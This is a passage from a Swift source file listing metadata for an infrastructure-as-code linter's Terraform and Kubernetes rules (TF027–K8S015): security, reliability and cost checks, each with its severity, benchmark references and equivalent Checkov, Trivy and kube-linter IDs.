            summary: "Follows a database's subnet group — `db_subnet_group_name` of `aws_db_instance`/`aws_rds_cluster` to an `aws_db_subnet_group`, or `subnet_group_name` of ElastiCache to an `aws_elasticache_subnet_group`, by reference or by literal name — to its `subnet_ids`, and reports when one of those is an `aws_subnet` with `map_public_ip_on_launch = true`, or the `public_subnets` output of a terraform-aws-modules/vpc module called with `map_public_ip_on_launch = true`. The finding points at the database's subnet group argument, with the subnet setting as related location.",
            sourcePath: "Rules/hcl/TF027.md"
        ),
        RuleMetadata(
            id: "TF028", title: "VPC has no flow log", kind: "hcl", severity: .warning,
            tags: ["security"], securitySeverity: "4.0",
            references: ["AWS Foundational Security Best Practices EC2.6: VPC flow logging should be enabled in all VPCs", "CIS AWS Foundations Benchmark v3.0, 3.7: Ensure VPC flow logging is enabled in all VPCs", "https://docs.aws.amazon.com/vpc/latest/userguide/flow-logs.html"],
            equivalents: [(tool: "checkov", id: "CKV2_AWS_11"), (tool: "trivy", id: "AWS-0178")],
            options: [],
            summary: "Reports an `aws_vpc` with no `aws_flow_log` whose `vpc_id` refers to it. Like the other absence checks it needs the whole module (no other Terraform file beside the linted one, or the directory pass), and stays silent when some flow log's `vpc_id` cannot be traced.",
            sourcePath: "Rules/hcl/TF028.md"
        ),
        RuleMetadata(
            id: "TF029", title: "HTTP listener does not redirect to HTTPS", kind: "hcl", severity: .warning,
            tags: ["security"], securitySeverity: "6.0",
            references: ["AWS Foundational Security Best Practices ELB.1: Application Load Balancer should be configured to redirect all HTTP requests to HTTPS", "https://docs.aws.amazon.com/elasticloadbalancing/latest/application/load-balancer-listeners.html#redirect-actions"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_2, CKV2_AWS_20"), (tool: "trivy", id: "AWS-0054")],
            options: [],
            summary: "Reports an `aws_lb_listener` (or `aws_alb_listener`) with `protocol = \"HTTP\"` — or no protocol on a listener of a known Application Load Balancer — whose default action is neither a redirect to `HTTPS` nor a fixed response (a fixed response serves no application content, unless listener rules forward some paths, in which case it is reported). Actions whose type or protocol cannot be evaluated are not judged.",
            sourcePath: "Rules/hcl/TF029.md"
        ),
        RuleMetadata(
            id: "TF030", title: "Load balancer listener uses an outdated TLS policy", kind: "hcl", severity: .warning,
            tags: ["security"], securitySeverity: "6.5",
            references: ["AWS Foundational Security Best Practices ELB.17: Application and Network Load Balancers with listeners should use recommended security policies", "https://docs.aws.amazon.com/elasticloadbalancing/latest/application/describe-ssl-policies.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_103"), (tool: "trivy", id: "AWS-0047")],
            options: [],
            summary: "Reports an HTTPS or TLS `aws_lb_listener`/`aws_alb_listener` whose `ssl_policy` accepts TLS 1.0 or 1.1 (`ELBSecurityPolicy-2016-08`, `-2015-05`, `-TLS-1-0-*`, `-TLS-1-1-*`, `-FS-2018-06`, `-FS-1-1-*`, `-TLS13-1-0-*`, `-TLS13-1-1-*`), or that sets no `ssl_policy` (the listener then gets `ELBSecurityPolicy-2016-08`). Policies limited to TLS 1.2+ but keeping CBC and SHA-1 suites (the `-Ext-`, `-Ext1-`, `-Ext2-` ones) are a note. This sits between the peers: Checkov accepts every `TLS13` policy, Trivy rejects the TLS13 `-1-0`, `-1-1` and `-Ext` ones.",
            sourcePath: "Rules/hcl/TF030.md"
        ),
        RuleMetadata(
            id: "TF031", title: "Application Load Balancer keeps invalid header fields", kind: "hcl", severity: .warning,
            tags: ["security"], securitySeverity: "4.0",
            references: ["AWS Foundational Security Best Practices ELB.4: Application Load Balancer should be configured to drop invalid http headers", "https://docs.aws.amazon.com/elasticloadbalancing/latest/application/application-load-balancers.html#load-balancer-attributes"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_131"), (tool: "trivy", id: "AWS-0052")],
            options: [],
            summary: "Reports an `aws_lb`/`aws_alb` of type `application` (the default) whose `drop_invalid_header_fields` is not `true`.",
            sourcePath: "Rules/hcl/TF031.md"
        ),
        RuleMetadata(
            id: "TF032", title: "ECS container runs privileged", kind: "hcl", severity: .error,
            tags: ["security"], securitySeverity: "8.5",
            references: ["AWS Foundational Security Best Practices ECS.4: ECS containers should run as non-privileged", "https://docs.aws.amazon.com/AmazonECS/latest/APIReference/API_ContainerDefinition.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_334")],
            options: [],
            summary: "Reports a container of an `aws_ecs_task_definition` with `\"privileged\": true`. `container_definitions` is read from `jsonencode([...])` (the finding points at the key), a JSON string or heredoc (parsed with Foundation's JSONSerialization; the finding points at the attribute), or a local holding either.",
            sourcePath: "Rules/hcl/TF032.md"
        ),
        RuleMetadata(
            id: "TF033", title: "ECS container is set to run as root", kind: "hcl", severity: .warning,
            tags: ["security"], securitySeverity: "6.0",
            references: ["AWS Config rule ecs-task-definition-nonroot-user: ECS task definitions should specify a non-root user", "https://docs.aws.amazon.com/AmazonECS/latest/APIReference/API_ContainerDefinition.html#ECS-Type-ContainerDefinition-user"],
            equivalents: [],
            options: [],
            summary: "Reports a container whose `user` is `root` or UID `0` (`\"0\"`, `\"0:0\"`, `\"root:root\"`…). A container without `user` runs as its image's `USER`, which the task definition does not show: it is not reported (DF001 checks the Dockerfile's final `USER`), unlike AWS Config's rule which requires `user` everywhere.",
            sourcePath: "Rules/hcl/TF033.md"
        ),
        RuleMetadata(
            id: "TF034", title: "ECS container root filesystem is writable", kind: "hcl", severity: .warning,
            tags: ["security"], securitySeverity: "4.5",
            references: ["AWS Foundational Security Best Practices ECS.5: ECS containers should be limited to read-only access to root filesystems", "https://docs.aws.amazon.com/AmazonECS/latest/APIReference/API_ContainerDefinition.html#ECS-Type-ContainerDefinition-readonlyRootFilesystem"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_336")],
            options: [],
            summary: "Reports a container whose `readonlyRootFilesystem` is `false` or left out (the default is writable). Values that cannot be evaluated are not reported.",
            sourcePath: "Rules/hcl/TF034.md"
        ),
        RuleMetadata(
            id: "TF035", title: "ECS container gets a secret as a plain environment variable", kind: "hcl", severity: .warning,
            tags: ["security"], securitySeverity: "7.0",
            references: ["AWS Foundational Security Best Practices ECS.8: Secrets should not be passed as container environment variables", "https://docs.aws.amazon.com/AmazonECS/latest/developerguide/specifying-sensitive-data.html"],
            equivalents: [(tool: "trivy", id: "AWS-0036")],
            options: [],
            summary: "Reports an `environment` entry of a container whose name looks like a secret — it contains PASSWORD, PASSWD, SECRET, TOKEN, API_KEY, APIKEY, PRIVATE_KEY, ACCESS_KEY or CREDENTIAL, and does not end in _ARN, _FILE, _PATH, _URL, _URI, _ENDPOINT, _NAME, _TTL, _LENGTH, _EXPIRY or _HEADER — with a non-empty value, literal or computed.",
            sourcePath: "Rules/hcl/TF035.md"
        ),
        RuleMetadata(
            id: "TF036", title: "ECS cluster does not enable Container Insights", kind: "hcl", severity: .note,
            tags: ["reliability"], securitySeverity: nil,
            references: ["AWS Foundational Security Best Practices ECS.12: ECS clusters should use Container Insights", "https://docs.aws.amazon.com/AmazonCloudWatch/latest/monitoring/ContainerInsights.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_65"), (tool: "trivy", id: "AWS-0034")],
            options: [],
            summary: "Reports an `aws_ecs_cluster` without a `setting { name = \"containerInsights\" }` block, or with one whose value is neither `enabled` nor `enhanced`. An account-wide `aws_ecs_account_setting_default` for `containerInsights` counts. A note: Container Insights is billed as custom metrics.",
            sourcePath: "Rules/hcl/TF036.md"
        ),
        RuleMetadata(
            id: "TF037", title: "CloudFront serves viewers over plain HTTP", kind: "hcl", severity: .warning,
            tags: ["security"], securitySeverity: "6.0",
            references: ["AWS Foundational Security Best Practices CloudFront.3: CloudFront distributions should require encryption in transit", "https://docs.aws.amazon.com/AmazonCloudFront/latest/DeveloperGuide/using-https-viewers-to-cloudfront.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_34"), (tool: "trivy", id: "AWS-0012")],
            options: [],
            summary: "Reports a `default_cache_behavior` or `ordered_cache_behavior` (static or dynamic) of an `aws_cloudfront_distribution` with `viewer_protocol_policy = \"allow-all\"`.",
            sourcePath: "Rules/hcl/TF037.md"
        ),
        RuleMetadata(
            id: "TF038", title: "CloudFront accepts TLS versions older than 1.2", kind: "hcl", severity: .warning,
            tags: ["security"], securitySeverity: "5.5",
            references: ["https://docs.aws.amazon.com/AmazonCloudFront/latest/DeveloperGuide/secure-connections-supported-viewer-protocols-ciphers.html", "AWS Foundational Security Best Practices CloudFront.3: CloudFront distributions should require encryption in transit"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_174"), (tool: "trivy", id: "AWS-0013")],
            options: [],
            summary: "Reports a `viewer_certificate` with a custom certificate (`acm_certificate_arn` or `iam_certificate_id`) whose `minimum_protocol_version` is older than `TLSv1.2_2019` (warning; `TLSv1.2_2018` is a note for its weaker ciphers) or left out (then `TLSv1`), and the default `*.cloudfront.net` certificate (`cloudfront_default_certificate = true`), which always accepts TLS 1.0 (note).",
            sourcePath: "Rules/hcl/TF038.md"
        ),
        RuleMetadata(
            id: "TF039", title: "Production CloudFront distribution has no WAF", kind: "hcl", severity: .warning,
            tags: ["security"], securitySeverity: "5.0",
            references: ["AWS Foundational Security Best Practices CloudFront.6: CloudFront distributions should have WAF enabled", "https://docs.aws.amazon.com/waf/latest/developerguide/cloudfront-features.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_68"), (tool: "trivy", id: "AWS-0011")],
            options: [(name: "environment", description: "The deployment's environment (`production`, `staging`…), overriding what tags and variables say.")],
            summary: "Reports, in production only, an `aws_cloudfront_distribution` without `web_acl_id`. Production is read as for TF006: the `environment` option, an `Environment` tag, provider `default_tags`, or a variable/local named `environment`. Silent when the environment is unknown or not production.",
            sourcePath: "Rules/hcl/TF039.md"
        ),
        RuleMetadata(
            id: "TF040", title: "IAM policy grants every action on every resource", kind: "hcl", severity: .error,
            tags: ["security"], securitySeverity: "9.0",
            references: ["AWS Foundational Security Best Practices IAM.1: IAM policies should not allow full \"*\" administrative privileges", "CIS AWS Foundations Benchmark v3.0, 1.16: Ensure IAM policies that allow full \"*:*\" administrative privileges are not attached", "https://docs.aws.amazon.com/IAM/latest/UserGuide/best-practices.html#grant-least-privilege"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_62, CKV_AWS_1, CKV_AWS_63"), (tool: "trivy", id: "AWS-0057")],
            options: [],
            summary: "Reports an `Allow` statement whose actions include `*` (or `*:*`) and whose resources include `*`, in the `policy` of `aws_iam_policy`, `aws_iam_role_policy`, `aws_iam_user_policy`, `aws_iam_group_policy` or an `aws_iam_role`'s `inline_policy` — written as `jsonencode({...})`, a JSON string or heredoc — and in `data \"aws_iam_policy_document\"` statements.",
            sourcePath: "Rules/hcl/TF040.md"
        ),
        RuleMetadata(
            id: "TF041", title: "KMS key is not rotated", kind: "hcl", severity: .warning,
            tags: ["security"], securitySeverity: "4.0",
            references: ["AWS Foundational Security Best Practices KMS.4: AWS KMS key rotation should be enabled", "CIS AWS Foundations Benchmark v3.0, 3.6: Ensure rotation for customer-created symmetric CMKs is enabled", "https://docs.aws.amazon.com/kms/latest/developerguide/rotate-keys.html"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_7"), (tool: "trivy", id: "AWS-0065")],
            options: [],
            summary: "Reports a symmetric encryption `aws_kms_key` (no `customer_master_key_spec` or `SYMMETRIC_DEFAULT`, `key_usage` `ENCRYPT_DECRYPT`) whose `enable_key_rotation` is not `true`. Asymmetric and HMAC keys cannot rotate automatically and are skipped.",
            sourcePath: "Rules/hcl/TF041.md"
        ),
        RuleMetadata(
            id: "TF042", title: "Secrets Manager secret is never rotated", kind: "hcl", severity: .note,
            tags: ["security"], securitySeverity: "3.0",
            references: ["AWS Foundational Security Best Practices SecretsManager.1: Secrets Manager secrets should have automatic rotation enabled", "https://docs.aws.amazon.com/secretsmanager/latest/userguide/rotating-secrets.html"],
            equivalents: [(tool: "checkov", id: "CKV2_AWS_57")],
            options: [],
            summary: "Reports an `aws_secretsmanager_secret` with no `aws_secretsmanager_secret_rotation` whose `secret_id` refers to it (by reference or the secret's `name`). It needs the whole module, like the other absence checks, and stays silent when a rotation's `secret_id` cannot be traced. A note: third-party API keys often cannot be rotated by a Lambda.",
            sourcePath: "Rules/hcl/TF042.md"
        ),
        RuleMetadata(
            id: "TF043", title: "AWS provider holds literal credentials", kind: "hcl", severity: .error,
            tags: ["security"], securitySeverity: "9.5",
            references: ["https://registry.terraform.io/providers/hashicorp/aws/latest/docs#authentication-and-configuration", "https://docs.aws.amazon.com/IAM/latest/UserGuide/best-practices.html#bp-workloads-use-roles"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_41")],
            options: [],
            summary: "Reports `access_key`, `secret_key` or `token` written as a literal string in a `provider \"aws\"` block. The reported value is masked in the code frame.",
            sourcePath: "Rules/hcl/TF043.md"
        ),
        RuleMetadata(
            id: "TF044", title: "Instance class is above the monthly budget", kind: "hcl", severity: .warning,
            tags: ["cost"], securitySeverity: nil,
            references: ["https://aws.amazon.com/rds/pricing/", "https://aws.amazon.com/ec2/pricing/on-demand/", "https://aws.amazon.com/elasticache/pricing/"],
            equivalents: [],
            options: [(name: "max-instance-class", description: "A class whose price is the budget, e.g. db.t4g.large."), (name: "max-monthly-usd", description: "Budget for one instance in USD per month (wins over the other options)."), (name: "pattern", description: "The deployment pattern: hobby-project (50), small-saas (300), production-saas or kubernetes (2000).")],
            summary: "Prices the class of each `aws_db_instance` (doubled with `multi_az = true`), `aws_rds_cluster_instance`, `aws_elasticache_replication_group` and `aws_elasticache_cluster` (times their nodes) and `aws_instance`, from a dated table of approximate us-east-1 on-demand prices (`AWSPriceTable.swift`, prices of 2026-06), and reports those above the budget for one instance: the `max-monthly-usd` option, else the price of `max-instance-class`, else the `pattern` budget, else 500 USD a month. The message gives the estimate and the next smaller size of the family that fits. Classes missing from the table are not reported.",
            sourcePath: "Rules/hcl/TF044.md"
        ),
        RuleMetadata(
            id: "TF045", title: "More NAT gateways than the environment needs", kind: "hcl", severity: .warning,
            tags: ["cost"], securitySeverity: nil,
            references: ["https://aws.amazon.com/vpc/pricing/", "https://registry.terraform.io/modules/terraform-aws-modules/vpc/aws/latest#nat-gateway-scenarios"],
            equivalents: [],
            options: [(name: "environment", description: "The deployment's environment (`production`, `staging`…), overriding what tags and variables say.")],
            summary: "Reports a terraform-aws-modules/vpc module call with `enable_nat_gateway = true` and neither `single_nat_gateway` nor `one_nat_gateway_per_az` (the module then creates one NAT gateway per subnet, in any environment); with `one_nat_gateway_per_az = true` outside production; and several `aws_nat_gateway` instances outside production. Production is read as for TF006 and the environment must be known for the last two cases. The message gives the monthly cost from the dated price table (about $32.85 per gateway per month before data processing, us-east-1, 2026-06).",
            sourcePath: "Rules/hcl/TF045.md"
        ),
        RuleMetadata(
            id: "TF046", title: "Volume uses gp2 where gp3 is cheaper or faster", kind: "hcl", severity: .warning,
            tags: ["cost"], securitySeverity: nil,
            references: ["https://aws.amazon.com/ebs/pricing/", "https://aws.amazon.com/rds/postgresql/pricing/", "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/CHAP_Storage.html#gp3-storage"],
            equivalents: [],
            options: [],
            summary: "Reports EBS volumes on `gp2` — `aws_ebs_volume` with `type = \"gp2\"` or no `type` (the API default), and `gp2` root/EBS block devices of `aws_instance` and `aws_launch_template` — with the monthly saving of gp3 ($0.08 instead of $0.10 per GB-month, us-east-1, 2026-06). For `aws_db_instance` (not Aurora) with `storage_type = \"gp2\"` or no `storage_type` (AWS then uses gp2) the finding is a note: on RDS gp3 costs the same per GB but includes 3,000 IOPS where gp2 gives 3 IOPS per GB.",
            sourcePath: "Rules/hcl/TF046.md"
        ),
        RuleMetadata(
            id: "TF047", title: "CloudWatch log group keeps logs forever", kind: "hcl", severity: .warning,
            tags: ["cost"], securitySeverity: nil,
            references: ["https://aws.amazon.com/cloudwatch/pricing/", "AWS Foundational Security Best Practices CloudWatch.16: CloudWatch log groups should be retained for a specified time period (at least a year by default)"],
            equivalents: [(tool: "checkov", id: "CKV_AWS_66")],
            options: [],
            summary: "Reports an `aws_cloudwatch_log_group` whose `retention_in_days` is left out or `0`: CloudWatch then never deletes its logs. The message gives the storage price from the dated table ($0.03 per GB-month, us-east-1, 2026-06).",
            sourcePath: "Rules/hcl/TF047.md"
        ),
        RuleMetadata(
            id: "TF048", title: "Autoscaling has no useful upper bound", kind: "hcl", severity: .warning,
            tags: ["cost"], securitySeverity: nil,
            references: ["https://docs.aws.amazon.com/amazondynamodb/latest/developerguide/on-demand-capacity-mode-max-throughput.html", "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_PIOPS.Autoscaling.html", "https://docs.aws.amazon.com/autoscaling/application/userguide/what-is-application-auto-scaling.html"],
            equivalents: [],
            options: [(name: "max-capacity", description: "The largest acceptable max_size / max_capacity of an Auto Scaling group or Application Auto Scaling target (default 50).")],
            summary: "Reports capacity that can grow far beyond the expected load: an on-demand (`PAY_PER_REQUEST`) `aws_dynamodb_table` without an `on_demand_throughput` block; an `aws_db_instance` whose storage autoscaling ceiling (`max_allocated_storage`) is more than ten times `allocated_storage` (with the storage cost at the ceiling); and an `aws_autoscaling_group` `max_size` or `aws_appautoscaling_target` `max_capacity` above the `max-capacity` option (default 50).",
            sourcePath: "Rules/hcl/TF048.md"
        ),
        RuleMetadata(
            id: "TF049", title: "Provisioned IOPS storage on a small database", kind: "hcl", severity: .warning,
            tags: ["cost"], securitySeverity: nil,
            references: ["https://aws.amazon.com/rds/postgresql/pricing/", "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/CHAP_Storage.html"],
            equivalents: [],
            options: [],
            summary: "Reports an `aws_db_instance` with `storage_type` `io1` or `io2` and either less than 400 GB of `allocated_storage` or a burstable `db.t*` class. The message gives the monthly price of the provisioned IOPS from the dated table ($0.10 per IOPS-month, us-east-1, 2026-06).",
            sourcePath: "Rules/hcl/TF049.md"
        ),
        RuleMetadata(
            id: "TF050", title: "Non-production ECS service does not use Fargate Spot", kind: "hcl", severity: .note,
            tags: ["cost"], securitySeverity: nil,
            references: ["https://aws.amazon.com/fargate/pricing/", "https://docs.aws.amazon.com/AmazonECS/latest/developerguide/fargate-capacity-providers.html"],
            equivalents: [],
            options: [(name: "environment", description: "The deployment's environment (`production`, `staging`…), overriding what tags and variables say.")],
            summary: "Reports an `aws_ecs_service` with `launch_type = \"FARGATE\"`, or a `capacity_provider_strategy` using only `FARGATE`, when the environment is known and not production (read as for TF006). When the task definition's `cpu`/`memory` and the `desired_count` are known, the message estimates the monthly on-demand cost and the Spot saving (about 70%, prices of 2026-06).",
            sourcePath: "Rules/hcl/TF050.md"
        ),
        RuleMetadata(
            id: "TF051", title: "RDS may enter paid Extended Support automatically", kind: "hcl", severity: .note,
            tags: ["cost"], securitySeverity: nil,
            references: ["https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/extended-support.html", "https://aws.amazon.com/rds/pricing/ (RDS Extended Support)", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/db_instance#engine_lifecycle_support"],
            equivalents: [],
            options: [],
            summary: "Reports an RDS for MySQL or PostgreSQL `aws_db_instance`, or an Aurora MySQL/PostgreSQL `aws_rds_cluster`, without `engine_lifecycle_support`. AWS then enrolls the database in RDS Extended Support when its major version reaches the end of standard support, billed per vCPU-hour (about $0.10 in years 1–2 and twice that in year 3, prices of 2026-06); the message estimates the monthly charge from the instance class. Databases whose engine is unknown are skipped.",
            sourcePath: "Rules/hcl/TF051.md"
        ),
        RuleMetadata(
            id: "K8S001", title: "Container may run as root", kind: "kubernetes", severity: .warning,
            tags: ["security"], securitySeverity: "6.0",
            references: ["CIS Kubernetes Benchmark v1.24+, 5.2.7: Minimize the admission of root containers", "https://kubernetes.io/docs/concepts/security/pod-security-standards/#restricted", "NSA/CISA Kubernetes Hardening Guide v1.2 (2022), \"Kubernetes Pod security\": non-root containers"],
            equivalents: [(tool: "checkov", id: "CKV_K8S_23"), (tool: "kube-linter", id: "run-as-non-root"), (tool: "trivy", id: "KSV-0012")],
            options: [],
            summary: "Reports a container (init and ephemeral containers included) whose effective security context — its own, else the pod's — neither sets `runAsNonRoot: true` nor a non-zero `runAsUser`. A pod-level `runAsNonRoot: false` inherited by several containers is reported once, at the pod's setting.",
            sourcePath: "Rules/kubernetes/K8S001.md"
        ),
        RuleMetadata(
            id: "K8S002", title: "Container runs as UID 0", kind: "kubernetes", severity: .error,
            tags: ["security"], securitySeverity: "7.0",
            references: ["CIS Kubernetes Benchmark v1.24+, 5.2.7: Minimize the admission of root containers", "https://kubernetes.io/docs/concepts/security/pod-security-standards/#restricted"],
            equivalents: [(tool: "trivy", id: "KSV-0105")],
            options: [],
            summary: "Reports `runAsUser: 0` on a container, or on the pod when at least one container inherits it (reported once at the pod's setting, naming the containers).",
            sourcePath: "Rules/kubernetes/K8S002.md"
        ),
        RuleMetadata(
            id: "K8S003", title: "Privileged container", kind: "kubernetes", severity: .error,
            tags: ["security"], securitySeverity: "9.0",
            references: ["CIS Kubernetes Benchmark v1.24+, 5.2.2: Minimize the admission of privileged containers", "https://kubernetes.io/docs/concepts/security/pod-security-standards/#baseline", "NSA/CISA Kubernetes Hardening Guide v1.2 (2022), \"Kubernetes Pod security\": \"Use privileged containers only when needed\""],
            equivalents: [(tool: "checkov", id: "CKV_K8S_16"), (tool: "kube-linter", id: "privileged-container"), (tool: "trivy", id: "KSV-0017")],
            options: [],
            summary: "Reports `securityContext.privileged: true` on any container, init and ephemeral containers included.",
            sourcePath: "Rules/kubernetes/K8S003.md"
        ),
        RuleMetadata(
            id: "K8S004", title: "Privilege escalation allowed", kind: "kubernetes", severity: .warning,
            tags: ["security"], securitySeverity: "5.5",
            references: ["CIS Kubernetes Benchmark v1.24+, 5.2.6: Minimize the admission of containers with allowPrivilegeEscalation", "https://kubernetes.io/docs/concepts/security/pod-security-standards/#restricted"],
            equivalents: [(tool: "checkov", id: "CKV_K8S_20"), (tool: "kube-linter", id: "privilege-escalation-container"), (tool: "trivy", id: "KSV-0001")],
            options: [],
            summary: "Reports a container whose `securityContext.allowPrivilegeEscalation` is `true` or not set (the default is true). This field exists only at container level; a pod-level setting does not exist.",
            sourcePath: "Rules/kubernetes/K8S004.md"
        ),
        RuleMetadata(
            id: "K8S005", title: "Root filesystem is writable", kind: "kubernetes", severity: .warning,
            tags: ["security"], securitySeverity: "4.0",
            references: ["NSA/CISA Kubernetes Hardening Guide v1.2 (2022), \"Kubernetes Pod security\": \"Use immutable container file systems\"", "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/"],
            equivalents: [(tool: "checkov", id: "CKV_K8S_22"), (tool: "kube-linter", id: "no-read-only-root-fs"), (tool: "trivy", id: "KSV-0014")],
            options: [],
            summary: "Reports a container whose `securityContext.readOnlyRootFilesystem` is `false` or not set.",
            sourcePath: "Rules/kubernetes/K8S005.md"
        ),
        RuleMetadata(
            id: "K8S006", title: "Capabilities are not dropped", kind: "kubernetes", severity: .warning,
            tags: ["security"], securitySeverity: "5.0",
            references: ["CIS Kubernetes Benchmark v1.24+, 5.2.10: Minimize the admission of containers with capabilities assigned", "https://kubernetes.io/docs/concepts/security/pod-security-standards/#restricted", "CIS Kubernetes Benchmark v1.24+, 5.2.8: Minimize the admission of containers with the NET_RAW capability"],
            equivalents: [(tool: "checkov", id: "CKV_K8S_37"), (tool: "kube-linter", id: "drop-net-raw-capability"), (tool: "trivy", id: "KSV-0003")],
            options: [],
            summary: "Reports a container whose `securityContext.capabilities.drop` does not include `ALL`: at the `drop` key when it lists other capabilities, else at the container's name.",
            sourcePath: "Rules/kubernetes/K8S006.md"
        ),
        RuleMetadata(
            id: "K8S007", title: "Dangerous capability added", kind: "kubernetes", severity: .warning,
            tags: ["security"], securitySeverity: "8.0",
            references: ["CIS Kubernetes Benchmark v1.24+, 5.2.9: Minimize the admission of containers with added capabilities", "https://kubernetes.io/docs/concepts/security/pod-security-standards/#baseline", "https://man7.org/linux/man-pages/man7/capabilities.7.html"],
            equivalents: [(tool: "checkov", id: "CKV_K8S_39"), (tool: "trivy", id: "KSV-0022")],
            options: [],
            summary: "Reports each capability in `securityContext.capabilities.add` that the Pod Security Standards' baseline profile does not allow. Capabilities that lead straight to root on the node — ALL, SYS_ADMIN, NET_ADMIN, SYS_PTRACE, SYS_MODULE, SYS_RAWIO, DAC_READ_SEARCH, BPF, PERFMON, SYS_BOOT, MAC_ADMIN, MAC_OVERRIDE, SYSLOG, SYS_TIME, NET_RAW — are reported as errors; others outside the baseline list as warnings. A `CAP_` prefix is accepted.",
            sourcePath: "Rules/kubernetes/K8S007.md"
        ),
        RuleMetadata(
            id: "K8S008", title: "Pod uses the host network", kind: "kubernetes", severity: .warning,
            tags: ["security"], securitySeverity: "7.0",
            references: ["CIS Kubernetes Benchmark v1.24+, 5.2.5: Minimize the admission of containers wishing to share the host network namespace", "https://kubernetes.io/docs/concepts/security/pod-security-standards/#baseline"],
            equivalents: [(tool: "checkov", id: "CKV_K8S_19"), (tool: "kube-linter", id: "host-network"), (tool: "trivy", id: "KSV-0009")],
            options: [],
            summary: "Reports `hostNetwork: true` on a pod spec (Pods and every workload's pod template).",
            sourcePath: "Rules/kubernetes/K8S008.md"
        ),
        RuleMetadata(
            id: "K8S009", title: "Pod shares the host's process namespace", kind: "kubernetes", severity: .error,
            tags: ["security"], securitySeverity: "8.0",
            references: ["CIS Kubernetes Benchmark v1.24+, 5.2.3: Minimize the admission of containers wishing to share the host process ID namespace", "https://kubernetes.io/docs/concepts/security/pod-security-standards/#baseline"],
            equivalents: [(tool: "checkov", id: "CKV_K8S_17"), (tool: "kube-linter", id: "host-pid"), (tool: "trivy", id: "KSV-0010")],
            options: [],
            summary: "Reports `hostPID: true` on a pod spec.",
            sourcePath: "Rules/kubernetes/K8S009.md"
        ),
        RuleMetadata(
            id: "K8S010", title: "Pod shares the host's IPC namespace", kind: "kubernetes", severity: .warning,
            tags: ["security"], securitySeverity: "7.0",
            references: ["CIS Kubernetes Benchmark v1.24+, 5.2.4: Minimize the admission of containers wishing to share the host IPC namespace", "https://kubernetes.io/docs/concepts/security/pod-security-standards/#baseline"],
            equivalents: [(tool: "checkov", id: "CKV_K8S_18"), (tool: "kube-linter", id: "host-ipc"), (tool: "trivy", id: "KSV-0008")],
            options: [],
            summary: "Reports `hostIPC: true` on a pod spec.",
            sourcePath: "Rules/kubernetes/K8S010.md"
        ),
        RuleMetadata(
            id: "K8S011", title: "hostPath volume", kind: "kubernetes", severity: .warning,
            tags: ["security", "reliability"], securitySeverity: "7.5",
            references: ["CIS Kubernetes Benchmark v1.24+, 5.2.12: Minimize the admission of HostPath volumes", "https://kubernetes.io/docs/concepts/security/pod-security-standards/#baseline", "https://kubernetes.io/docs/concepts/storage/volumes/#hostpath"],
            equivalents: [(tool: "checkov", id: "CKV_K8S_27"), (tool: "kube-linter", id: "docker-sock"), (tool: "trivy", id: "KSV-0023")],
            options: [],
            summary: "Reports each `hostPath` volume, at its `path`. The container runtime's socket or directory (`/var/run/docker.sock`, `/run/containerd/containerd.sock`, `/var/run/crio/crio.sock`, `/var/run`, `/var/lib/docker`…) and paths that hand over the node (`/`, `/etc`, `/root`, `/var/lib/kubelet`, `/etc/kubernetes`, `/home`, `/boot`) are reported as errors.",
            sourcePath: "Rules/kubernetes/K8S011.md"
        ),
        RuleMetadata(
            id: "K8S012", title: "Container binds a host port", kind: "kubernetes", severity: .warning,
            tags: ["security", "reliability"], securitySeverity: "4.0",
            references: ["CIS Kubernetes Benchmark v1.24+, 5.2.13: Minimize the admission of containers which use HostPorts", "https://kubernetes.io/docs/concepts/security/pod-security-standards/#baseline"],
            equivalents: [(tool: "checkov", id: "CKV_K8S_26"), (tool: "trivy", id: "KSV-0024")],
            options: [],
            summary: "Reports each container port with a non-zero `hostPort`, unless the pod already uses the host network (K8S008 reports that).",
            sourcePath: "Rules/kubernetes/K8S012.md"
        ),
        RuleMetadata(
            id: "K8S013", title: "No CPU or memory request", kind: "kubernetes", severity: .warning,
            tags: ["reliability", "cost"], securitySeverity: nil,
            references: ["https://kubernetes.io/docs/concepts/configuration/manage-resources-containers/", "https://kubernetes.io/docs/concepts/workloads/pods/pod-qos/"],
            equivalents: [(tool: "checkov", id: "CKV_K8S_10"), (tool: "kube-linter", id: "unset-cpu-requirements"), (tool: "trivy", id: "KSV-0015")],
            options: [],
            summary: "Reports a container or init container without a CPU request, a memory request or both. A limit alone counts as a request: the API server copies a limit into the missing request. Ephemeral containers cannot have resources and are skipped. (Memory requests are Checkov's CKV_K8S_12, kube-linter's `unset-memory-requirements`, Trivy's KSV-0016.)",
            sourcePath: "Rules/kubernetes/K8S013.md"
        ),
        RuleMetadata(
            id: "K8S014", title: "No memory limit", kind: "kubernetes", severity: .warning,
            tags: ["reliability"], securitySeverity: nil,
            references: ["https://kubernetes.io/docs/concepts/configuration/manage-resources-containers/", "NSA/CISA Kubernetes Hardening Guide v1.2 (2022), \"Kubernetes Pod security\": resource policies"],
            equivalents: [(tool: "checkov", id: "CKV_K8S_13"), (tool: "kube-linter", id: "unset-memory-requirements"), (tool: "trivy", id: "KSV-0018")],
            options: [],
            summary: "Reports a container or init container without `resources.limits.memory`.",
            sourcePath: "Rules/kubernetes/K8S014.md"
        ),
        RuleMetadata(
            id: "K8S015", title: "No CPU limit", kind: "kubernetes", severity: .note,
            tags: ["reliability", "cost"], securitySeverity: nil,
            references: ["https://kubernetes.io/docs/concepts/configuration/manage-resources-containers/#how-pods-with-resource-limits-are-run", "https://kubernetes.io/docs/concepts/workloads/pods/pod-qos/#guaranteed"],
            equivalents: [(tool: "checkov", id: "CKV_K8S_11"), (tool: "trivy", id: "KSV-0011")],
            options: [],
